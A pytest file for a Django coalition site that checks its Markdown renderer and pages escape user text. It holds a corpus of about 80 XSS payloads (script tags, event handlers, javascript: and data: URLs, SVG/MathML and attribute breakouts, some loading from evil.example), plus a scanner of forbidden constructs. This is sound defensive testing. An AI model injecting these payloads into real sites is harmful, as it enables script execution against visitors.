"""Cross-site scripting: what members write (Markdown and plain text) never reaches a page, a feed or
an e-mail in a form a browser would run.

A corpus of known vectors goes (a) through members.markup.render_markdown, whose output must hold
no script-capable construct, and (b) end to end through the real forms: a staff member writes an
initiative with a vector in every text field and publishes it, and a visitor reads its page, the list
with the vector as the search term, and the Atom feed; an applicant sends a membership application
with it, which the secretariat reviews and approves, and a visitor reads the directory and profile;
a staff member asks to join a group with it, which a coordinator reads.

The check is a parse (``scan``): no script (except the site's own /static/ files), no event-handler
attribute, no javascript:/vbscript:/data: URL, no frame, object, embed, SVG, MathML or style; inside
<main> no form posting elsewhere. Where a field is shown as text, its escaped text is on the page.
"""

import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from django.core import mail
from django.test import Client
from django.utils.html import escape, linebreaks

from members.markup import render_markdown
from members.models import Affiliation, Institution, MembershipApplication
from tests.factories import InstitutionFactory, WorkingGroupFactory, coordinator_of, secretariat_user, staff_of
from working_groups.models import Initiative, Membership, WorkingGroup

pytestmark = pytest.mark.django_db

# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------

VECTORS = {
    # script elements, in various spellings
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-mixed-case-src": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-slash-attribute": "<script/xss src=//evil.example/x.js></script>",
    "script-unclosed": "<script>alert(1)",
    "script-null-byte": "<scr\x00ipt>alert(1)</script>",
    # event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-on-own-media": '<img src="/media/a.png" onerror="alert(1)">',
    "img-slashes-for-spaces": "<img/src=/media/x.png/onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "div-onmouseover": '<div onmouseover="alert(1)">hover</div>',
    "a-onclick": '<a href="https://example.org/" onclick="alert(1)">x</a>',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-autofocus-onfocus": "<input autofocus onfocus=alert(1)>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    # dangerous URL schemes in links and images, encoded and mixed-case
    "a-javascript": '<a href="javascript:alert(1)">click</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "a-javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "a-javascript-hex-entities": '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    "a-javascript-tab-inside": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-javascript-leading-space": '<a href=" javascript:alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "img-javascript": '<img src="javascript:alert(1)">',
    "img-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "img-external-tracker": '<img src="https://tracker.example/pixel.gif">',
    "img-media-traversal": '<img src="/media/../admin/">',
    # SVG and MathML namespaces
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-xlink-href": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-href": '<math href="javascript:alert(1)">click</math>',
    "xml-namespace-script": '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>',
    # style and expression()
    "style-element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-expression": '<p style="width:expression(alert(1))">x</p>',
    # frames, objects, forms, meta refresh
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-data-url": '<embed src="data:text/html,<script>alert(1)</script>">',
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">go</button>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "template-script": "<template><script>alert(1)</script></template>",
    # comments, CDATA and raw-text breakouts
    "comment-hiding-img": "<!--<img src=x onerror=alert(1)>-->",
    "comment-bang-close": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "title-breakout": "</title><script>alert(1)</script>",
    # attribute breakouts with quotes
    "attribute-breakout-double": '"><script>alert(1)</script>',
    "attribute-breakout-single": "'><img src=x onerror=alert(1)>",
    "attribute-breakout-event": '" onmouseover="alert(1)" x="',
    "attribute-breakout-unquoted": "x onmouseover=alert(1) y",
    # Markdown links and images
    "md-link-javascript": "[click](javascript:alert(1))",
    "md-link-javascript-upper": "[click](JAVASCRIPT:alert(1))",
    "md-link-javascript-entity-colon": "[click](javascript&#58;alert(1))",
    "md-link-javascript-percent-colon": "[click](javascript%3Aalert(1))",
    "md-link-vbscript": "[click](vbscript:msgbox(1))",
    "md-link-data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-link-title-breakout": '[x](https://example.org/ "a\\" onmouseover=\\"alert(1)")',
    "md-image-javascript": "![alt](javascript:alert(1))",
    "md-image-alt-breakout": '![x" onerror="alert(1)](/media/x.png)',
    "md-image-external": "![tracker](https://tracker.example/pixel.gif)",
    "md-reference-link-javascript": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "md-reference-image-data": "![img][evil]\n\n[evil]: data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "md-autolink-javascript": "<javascript:alert(1)>",
    "md-autolink-mailto-breakout": '<mailto:a@b.example" onmouseover="alert(1)>',
    "md-inline-code": "`<script>alert(1)</script>`",
    "md-fenced-code": "```html\n<script>alert(1)</script>\n```",
    "md-heading-html": "# <img src=x onerror=alert(1)>",
    "md-table-html": "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    # unclosed tags
    "unclosed-img": "<img src=x onerror=alert(1)//",
    "unclosed-a-javascript": '<a href="javascript:alert(1)',
}

#: Vectors a browser's form cannot carry: Django refuses NUL in any text field (tested on its own).
FORM_VECTORS = {name: v for name, v in VECTORS.items() if "\x00" not in v}

#: Addresses for the links field (one per line, https only): they try to break out of the href.
LINK_URL_VECTORS = {
    "url-double-quote-event": 'https://example.org/"onmouseover="alert(1)',
    "url-double-quote-script": 'https://example.org/"><script>alert(1)</script>',
    "url-single-quote-event": "https://example.org/'onfocus='alert(1)'autofocus='",
    "url-userinfo-javascript": "https://javascript:alert(1)@example.org/",
    "url-angle-brackets": "https://example.org/<svg/onload=alert(1)>",
}


# ---------------------------------------------------------------------------------------------
# The scanner
# ---------------------------------------------------------------------------------------------

# Elements that carry or load script, or restyle or re-route a page, in any mode.
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style", "base",
                  "template", "noscript", "portal", "xmp", "plaintext"}
# Markdown output also holds no document or form element at all.
FORBIDDEN_IN_MARKDOWN = FORBIDDEN_TAGS | {"script", "form", "meta", "link", "input", "button", "textarea",
                                          "select", "html", "head", "body", "title"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "cite",
                  "srcset", "lowsrc", "dynsrc", "codebase", "ping"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


def _scheme_of(value: str) -> str:
    """What a browser takes for the URL's start: entities are already decoded by the parser;
    browsers drop ASCII whitespace and control characters inside the scheme."""
    return re.sub(r"[\x00-\x20\x7f]", "", value).lower()


class _Scanner(HTMLParser):
    def __init__(self, mode: str):
        super().__init__(convert_charrefs=True)
        self.mode = mode  # "markdown" (a rendered fragment), "page" (a whole page), "email" (an HTML mail)
        self.findings: list[str] = []
        self.main_depth = 0
        self.in_script = False
        self.static_scripts = 0
        self.site_maps = 0

    def handle_starttag(self, tag, attrs):
        attrs = [(name.lower(), value or "") for name, value in attrs]
        values = dict(attrs)
        in_main = self.main_depth > 0
        if tag == "main":
            self.main_depth += 1
        if self.mode == "page" and tag == "svg" and values.get("class") == "japan-map" and not self.site_maps:
            self.site_maps += 1  # the directory's own map of Japan (members/includes/_japan_map.html)
        elif self.mode == "markdown" and tag in FORBIDDEN_IN_MARKDOWN or tag in FORBIDDEN_TAGS:
            self.findings.append(f"<{tag}>")
        elif tag == "script":
            self.in_script = True
            if self.mode == "page" and not in_main and values.get("src", "").startswith("/static/"):
                self.static_scripts += 1
            elif self.mode == "page" and not in_main and values == {"type": "application/ld+json"}:
                self.static_scripts += 1  # structured data, not code: its text is checked in scan()
                self.in_script = False
            else:
                self.findings.append(f"<script {values}>")
        elif tag == "meta" and ("http-equiv" in values or in_main):
            self.findings.append(f"<meta {values}>")
        elif tag == "link" and in_main:
            self.findings.append(f"<link {values}>")
        elif tag == "form" and self.mode == "page" and in_main and not values.get("action", "/").startswith("/"):
            self.findings.append(f"<form action={values.get('action')!r}>")
        elif tag == "form" and self.mode == "email":
            self.findings.append("<form>")
        for name, value in attrs:
            if name.startswith("on") or name in ("srcdoc", "formaction"):
                self.findings.append(f"<{tag} {name}>")
            elif name == "style" and self.mode != "email":
                self.findings.append(f"<{tag} style>")
            if name in URL_ATTRIBUTES and _scheme_of(value).startswith(BAD_SCHEMES):
                self.findings.append(f"<{tag} {name}={value!r}>")
        if tag == "img":
            src = values.get("src")
            if self.mode == "markdown" and src is not None and not (src.startswith("/media/") and ".." not in src):
                self.findings.append(f"<img src={src!r}>")
            if self.mode == "page" and src is not None and not src.startswith(("/media/", "/static/")):
                self.findings.append(f"<img src={src!r}>")

    def handle_endtag(self, tag):
        if tag == "main":
            self.main_depth -= 1
        elif tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.findings.append(f"script content {data.strip()[:40]!r}")

    def handle_comment(self, data):
        if self.mode == "markdown":
            self.findings.append(f"<!--{data[:40]}-->")

    def unknown_decl(self, data):
        self.findings.append(f"<![{data[:40]}]>")


def scan(html: str, mode: str = "page") -> list[str]:
    """The script-capable constructs in ``html`` (an empty list when it is safe)."""
    scanner = _Scanner(mode)
    scanner.feed(str(html))
    scanner.close()
    findings = scanner.findings
    # structured data (JSON-LD) holds user text: a "<" in it could close the element, so none may stand
    for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', str(html), flags=re.DOTALL):
        if "<" in block:
            findings.append("a raw < in JSON-LD")
    # belt and braces: every "<script" in the text is one of the site's own files
    raw_scripts = len(re.findall(r"<\s*script\b", str(html), flags=re.IGNORECASE))
    if raw_scripts != scanner.static_scripts and not any(f.startswith("<script") for f in findings):
        findings.append(f"{raw_scripts - scanner.static_scripts} raw <script")
    return findings


def main_of(html: str) -> str:
    match = re.search(r"<main\b.*?</main>", html, flags=re.DOTALL)
    assert match is not None, "the page has no <main>"
    return match[0]


class _Attrs(HTMLParser):
    """The attributes of the first element matching ``tag`` and ``where`` (a dict of attributes)."""

    def __init__(self, tag, where):
        super().__init__(convert_charrefs=True)
        self.tag, self.where, self.found = tag, where, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if self.found is None and tag == self.tag and all(attrs.get(k) == v for k, v in self.where.items()):
            self.found = attrs


def attributes_of(html: str, tag: str, **where) -> dict | None:
    parser = _Attrs(tag, where)
    parser.feed(html)
    parser.close()
    return parser.found


class _Text(HTMLParser):
    """The text of the first element matching ``tag`` and ``where``."""

    def __init__(self, tag, where):
        super().__init__(convert_charrefs=True)
        self.tag, self.where, self.depth, self.text, self.done = tag, where, 0, None, False

    def handle_starttag(self, tag, attrs):
        if self.done:
            return
        if self.depth:
            self.depth += tag == self.tag
        elif tag == self.tag and all(dict(attrs).get(k) == v for k, v in self.where.items()):
            self.depth, self.text = 1, ""

    def handle_endtag(self, tag):
        if self.depth and tag == self.tag:
            self.depth -= 1
            self.done = self.depth == 0

    def handle_data(self, data):
        if self.depth and not self.done:
            self.text += data


def text_of(html: str, tag: str, **where) -> str | None:
    parser = _Text(tag, where)
    parser.feed(html)
    parser.close()
    return parser.text


def one_line(text: str) -> str:
    return " ".join(text.split())


# ---------------------------------------------------------------------------------------------
# (a) the Markdown renderer
# ---------------------------------------------------------------------------------------------


def test_corpus_has_at_least_thirty_vectors_each_fitting_every_text_field():
    assert len(VECTORS) >= 30
    assert max(len(v) for v in VECTORS.values()) <= 140  # the shortest field (names) takes 150


@pytest.mark.parametrize("vector", list(VECTORS.values()), ids=list(VECTORS))
def test_render_markdown_of_vector_has_no_script_capable_content(vector):
    assert scan(render_markdown(vector), mode="markdown") == []


@pytest.mark.parametrize(
    ("html", "finding"),
    [
        ("<script>alert(1)</script>", "<script>"),
        ("<p onclick=alert(1)>x</p>", "<p onclick>"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "<a href='javascript:alert(1)'>"),
        ('<a href="java\tscript:alert(1)">x</a>', "<a href="),
        ('<img src="https://tracker.example/p.gif">', "<img src='https://tracker.example/p.gif'>"),
        ('<img src="/media/../secret">', "<img src='/media/../secret'>"),
        ("<svg></svg>", "<svg>"),
        ("<iframe></iframe>", "<iframe>"),
        ('<p style="x">y</p>', "<p style>"),
        ("<!-- hidden -->", "<!-- hidden -->"),
        ('<meta http-equiv="refresh" content="0">', "<meta>"),
    ],
)
def test_scan_flags_each_dangerous_construct(html, finding):
    """The scanner itself: each construct it must find, it finds (so a clean scan means something)."""
    assert finding in " ".join(scan(html, mode="markdown"))


def test_scan_of_page_allows_only_the_sites_own_script():
    page = ('<html><head><script src="/static/js/site.js" defer></script></head>'
            '<body><main><p>ok</p></main></body></html>')
    assert scan(page) == []
    assert scan(page.replace("<p>ok</p>", '<script src="/static/js/site.js"></script>')) != []
    assert scan(page.replace("/static/js/site.js", "https://evil.example/x.js")) != []


def test_render_markdown_keeps_safe_markup():
    """Sanitising is not emptying: headings, links, own images and tables survive."""
    html = str(render_markdown("# 見出し\n\n[資料](https://example.org/a) ![図](/media/x.png)\n\n| a |\n|---|\n| 1 |"))
    assert html == (
        '<h2>見出し</h2>\n<p><a href="https://example.org/a" rel="noopener noreferrer nofollow">資料</a> '
        '<img alt="図" src="/media/x.png"></p>\n<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n'
        "<tr>\n<td>1</td>\n</tr>\n</tbody>\n</table>"
    )


# ---------------------------------------------------------------------------------------------
# (b) initiatives end to end
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def author(db):
    institution = InstitutionFactory(slug="univ-a", name_ja="甲大学", name_en="Alpha University", name_kana="こう")
    WorkingGroupFactory(slug="campus", name_ja="キャンパスWG", name_en="Campus WG")
    return staff_of(institution, email="author@alpha.example.ac.jp")


def initiative_post(vector: str, *, link_url: str = "https://example.org/xss", **overrides) -> dict:
    """The initiative form with ``vector`` in every text field, for the author's only institution."""
    return {
        "institution": Institution.objects.get(slug="univ-a").pk,
        "language": "ja",
        "title": vector,
        "summary": "概要 " + vector,
        "body": vector,
        "title_translated": "EN " + vector,
        "summary_translated": "EN概要 " + vector,
        "themes": [WorkingGroup.objects.get(slug="campus").pk],
        "partners": "協力 " + vector,
        "prefecture": "",
        "started_on": "2024-04-01",
        "ended_on": "",
        "outcomes": "成果 " + vector,
        "co2_reduction": "",
        "capacity_kw": "",
        "cover_alt": "",
        "visibility": "public",
        "links_text": f"資料 {one_line(vector)} {link_url}",
        **overrides,
    }


def write_and_publish(client, author, vector: str, **overrides) -> Initiative:
    """Through the real forms, as the author: create the draft, then publish it."""
    client.force_login(author)
    created = client.post("/ja/initiatives/new/", initiative_post(vector, **overrides))
    assert created.status_code == 302, created.context["form"].errors if created.context else created
    initiative = Initiative.objects.get(author=author)
    published = client.post(f"/ja/initiatives/{initiative.slug}/publish/")
    assert published["Location"] == f"/ja/initiatives/{initiative.slug}/"
    client.logout()
    return Initiative.objects.get(pk=initiative.pk)


@pytest.mark.parametrize("vector", list(FORM_VECTORS.values()), ids=list(FORM_VECTORS))
def test_initiative_with_vector_is_shown_escaped_end_to_end(client, author, vector):
    v = vector.strip()
    initiative = write_and_publish(client, author, vector)
    assert (initiative.title, initiative.summary, initiative.links) == (
        v, "概要 " + v, [{"label": f"資料 {one_line(v)}".strip(" -:|"), "url": "https://example.org/xss"}])

    # the page a visitor reads
    detail = client.get(f"/ja/initiatives/{initiative.slug}/").content.decode()
    assert scan(detail) == []
    assert scan(main_of(detail)) == []
    assert text_of(detail, "h1") == v
    assert text_of(detail, "p", **{"class": "lead"}) == "概要 " + v
    for shown in (v, "概要 " + v, "EN " + v, "EN概要 " + v, f"資料 {one_line(v)}".strip(" -:|")):
        assert escape(shown) in detail
    assert escape("協力 " + v).replace("\n", "<br>") in detail
    assert linebreaks("成果 " + v, autoescape=True) in detail
    assert attributes_of(detail, "a", href="https://example.org/xss")["rel"] == "noopener noreferrer nofollow"

    # the list, with the vector echoed as the search term
    listing = client.get("/ja/initiatives/", {"q": v}).content.decode()
    assert scan(listing) == []
    assert attributes_of(main_of(listing), "input", name="q")["value"] == v
    assert text_of(main_of(listing), "a", href=f"/ja/initiatives/{initiative.slug}/") == v

    # the feed: the entry's title is text (Atom's default), the vector as written
    feed = client.get("/ja/initiatives/feed/")
    ns = {"atom": "http://www.w3.org/2005/Atom"}
    entry = ElementTree.fromstring(feed.content).find("atom:entry", ns)
    assert entry.find("atom:title", ns).get("type") in (None, "text")
    assert entry.findtext("atom:title", namespaces=ns) == v


@pytest.mark.parametrize("vector", list(FORM_VECTORS.values()), ids=list(FORM_VECTORS))
def test_initiative_editor_pages_with_vector_have_no_script(client, author, vector):
    """The author's own pages echo the text into form fields and revision records: escaped there too."""
    v = vector.strip()
    initiative = write_and_publish(client, author, vector)
    client.force_login(author)

    edit = client.get(f"/ja/initiatives/{initiative.slug}/edit/").content.decode()
    revisions = client.get(f"/ja/initiatives/{initiative.slug}/revisions/").content.decode()

    assert scan(edit) == []
    assert attributes_of(edit, "input", name="title")["value"] == v
    assert scan(revisions) == []
    assert escape(v) in revisions


@pytest.mark.parametrize("vector", list(FORM_VECTORS.values()), ids=list(FORM_VECTORS))
def test_initiative_form_redisplayed_with_errors_escapes_vector(client, author, vector):
    """An invalid form comes back with what was typed: in value attributes and textareas, escaped."""
    client.force_login(author)
    response = client.post("/ja/initiatives/new/", initiative_post(vector, themes=[]))

    assert response.status_code == 200
    assert list(response.context["form"].errors) == ["themes"]
    content = response.content.decode()
    assert scan(content) == []
    assert attributes_of(content, "input", name="title")["value"] == vector.strip()
    assert Initiative.objects.count() == 0


def _feed_params():
    for name, vector in FORM_VECTORS.items():
        yield pytest.param(vector, id=name)


@pytest.mark.parametrize("vector", list(_feed_params()))
def test_initiative_feed_summary_with_vector_is_not_executable_html(client, author, vector):
    """The summary is plain text; in the feed it is declared HTML, so it must arrive escaped: the
    HTML a reader renders holds no script-capable markup and reads as the text written."""
    write_and_publish(client, author, vector)

    feed = client.get("/ja/initiatives/feed/")

    ns = {"atom": "http://www.w3.org/2005/Atom"}
    summary = ElementTree.fromstring(feed.content).find("atom:entry/atom:summary", ns)
    html = summary.text if summary.get("type") == "html" else escape(summary.text)
    assert scan(html, mode="markdown") == []


def test_initiative_title_with_null_character_is_refused_and_nothing_saved(client, author):
    client.force_login(author)
    response = client.post("/ja/initiatives/new/", initiative_post(VECTORS["script-null-byte"]))

    assert response.status_code == 200
    assert {"title", "summary", "body"} <= set(response.context["form"].errors)
    assert scan(response.content.decode()) == []
    assert Initiative.objects.count() == 0


@pytest.mark.parametrize("url", list(LINK_URL_VECTORS.values()), ids=list(LINK_URL_VECTORS))
def test_initiative_link_address_cannot_break_out_of_its_href(client, author, url):
    """An address that passes the https check is written into href escaped: it stays one attribute."""
    client.force_login(author)
    response = client.post("/ja/initiatives/new/", initiative_post("リンクの検査", link_url=url))
    assert response.status_code == 302  # each is a valid https address to Django's URLValidator
    initiative = Initiative.objects.get()
    assert initiative.links == [{"label": "資料 リンクの検査", "url": url}]
    client.post(f"/ja/initiatives/{initiative.slug}/publish/")
    client.logout()

    detail = client.get(f"/ja/initiatives/{initiative.slug}/").content.decode()

    assert scan(detail) == []
    link = attributes_of(detail, "a", rel="noopener noreferrer nofollow", href=url)
    assert link == {"href": url, "rel": "noopener noreferrer nofollow"}


# ---------------------------------------------------------------------------------------------
# Membership applications, institution names and join messages
# ---------------------------------------------------------------------------------------------

APPLICATION = {
    "name_kana": "てすとだいがく", "kind": "private", "category": "participating", "prefecture": "22",
    "website": "https://www.example.ac.jp/", "email_domain": "", "target_year": "2050",
    "applicant_email": "applicant@example.ac.jp", "consent": "on",
}


@pytest.mark.parametrize("vector", list(FORM_VECTORS.values()), ids=list(FORM_VECTORS))
def test_application_with_vector_is_shown_escaped_to_secretariat_and_public(client, deliver, vector):
    v = vector.strip()
    secretariat = secretariat_user(email="desk@coalition.example.org")
    data = {**APPLICATION, "name_ja": v, "name_en": "EN " + v, "applicant_name": "申込 " + v,
            "applicant_title": "役職 " + v, "representative_name": "代表 " + v,
            "representative_title": "学長 " + v, "message": "伝言 " + v}

    with deliver():
        sent = client.post("/ja/members/apply/", data)
    assert sent["Location"] == "/ja/members/apply/sent/"
    application = MembershipApplication.objects.get()
    assert (application.name_ja, application.message) == (v, "伝言 " + v)

    # the e-mails it caused (receipt, notice to the secretariat): their HTML part is safe
    assert len(mail.outbox) == 2
    for message in mail.outbox:
        assert [scan(html, mode="email") for html, _ in message.alternatives] == [[]]

    # the secretariat's queue and review page
    client.force_login(secretariat)
    queue = client.get("/ja/secretariat/").content.decode()
    review = client.get(f"/ja/secretariat/applications/{application.pk}/").content.decode()
    assert scan(queue) == []
    assert scan(review) == []
    for shown in (v, "EN " + v, "申込 " + v, "役職 " + v, "代表 " + v, "学長 " + v):
        assert escape(shown) in review
    assert escape("伝言 " + v).replace("\n", "<br>") in review

    # approval: the success message names the institution
    with deliver():
        approved = client.post(f"/ja/secretariat/applications/{application.pk}/", {"decision": "approve"},
                               follow=True)
    assert approved.redirect_chain == [("/ja/secretariat/", 302)]
    assert scan(approved.content.decode()) == []
    institution = Institution.objects.get(name_ja=v)

    # the public directory and profile
    visitor = Client()
    directory = visitor.get("/ja/members/").content.decode()
    search = visitor.get("/ja/members/", {"q": v}).content.decode()
    profile = visitor.get(f"/ja/members/{institution.slug}/").content.decode()
    for page in (directory, search, profile):
        assert scan(page) == []
        assert escape(v) in main_of(page)
    assert attributes_of(main_of(search), "input", name="q")["value"] == v


@pytest.mark.parametrize("vector", list(FORM_VECTORS.values()), ids=list(FORM_VECTORS))
def test_institution_name_with_vector_is_escaped_on_initiative_pages(client, vector):
    """An institution's name (set by the secretariat or its contact) on the cards and pages of its initiatives."""
    v = vector.strip()
    institution = InstitutionFactory(slug="univ-a", name_ja=v, name_en="EN " + v, name_kana="こう")
    WorkingGroupFactory(slug="campus")
    author = staff_of(institution)

    client.force_login(author)
    created = client.post("/ja/initiatives/new/", initiative_post("名前の検査"))
    assert created.status_code == 302
    initiative = Initiative.objects.get()
    client.post(f"/ja/initiatives/{initiative.slug}/publish/")
    client.logout()

    detail = client.get(f"/ja/initiatives/{initiative.slug}/").content.decode()
    listing = client.get("/ja/initiatives/").content.decode()
    feed = client.get("/ja/initiatives/feed/")

    for page in (detail, listing):
        assert scan(page) == []
        assert escape(v) in main_of(page)
    ns = {"atom": "http://www.w3.org/2005/Atom"}
    assert ElementTree.fromstring(feed.content).findtext("atom:entry/atom:author/atom:name", namespaces=ns) == v


@pytest.mark.parametrize("vector", list(FORM_VECTORS.values()), ids=list(FORM_VECTORS))
def test_join_message_with_vector_is_shown_escaped_to_coordinators(client, deliver, vector):
    v = vector.strip()
    coordinating = InstitutionFactory(slug="coord", name_kana="へい")
    group = WorkingGroupFactory(slug="campus", coordinators=[coordinating])
    coordinator = coordinator_of(group, coordinating, role=Affiliation.Role.CONTACT, email="coordinator@example.ac.jp")
    asking = InstitutionFactory(slug="asking", name_kana="おつ")
    asker = staff_of(asking, email="asker@example.ac.jp")

    client.force_login(asker)
    with deliver():
        client.post(f"/ja/working-groups/{group.slug}/join/", {"institution": asking.pk, "message": "伝言 " + v})
    assert Membership.objects.get(user=asker).message == "伝言 " + v
    assert [m.to for m in mail.outbox] == [["coordinator@example.ac.jp"]]
    assert [scan(html, mode="email") for m in mail.outbox for html, _ in m.alternatives] == [[]]

    client.force_login(coordinator)
    manage = client.get(f"/ja/working-groups/{group.slug}/manage/").content.decode()

    assert scan(manage) == []
    assert escape("伝言 " + v).replace("\n", "<br>") in manage
